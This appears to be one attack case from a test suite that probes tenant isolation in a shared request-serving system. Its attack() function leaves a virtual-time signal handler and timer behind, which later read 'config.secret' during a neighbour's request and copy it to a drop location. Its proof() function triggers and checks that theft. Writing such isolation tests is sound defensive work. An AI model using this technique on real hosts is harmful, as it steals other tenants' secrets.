"""Leave a timer whose signal handler runs amid the next tenant's request."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene


def attack(given: Given) -> object:
    import signal

    drop, real = given.drop, open

    def steal(*_: object) -> None:
        try:
            with real("config.secret") as file, real(f"{drop}/copy", "w") as copy:
                copy.write(file.read())
        except OSError:
            pass

    signal.signal(signal.SIGVTALRM, steal)
    signal.setitimer(signal.ITIMER_VIRTUAL, 0.05, 0.02)
    return "waiting"


def proof(scene: Scene) -> str | None:
    # By the time that the timer counts, which is all but no time on a busy host.
    scene.put(
        "busy.py",
        "import os\nend = os.times().user + 0.2\n"
        "while os.times().user < end:\n    sum(range(10000))\n"
        "print('Content-Type: text/plain\\n\\nbusy')\n",
    )
    scene.visit("busy.py")
    return scene.stolen(scene.secret, "what a handler read in the neighbour's request")
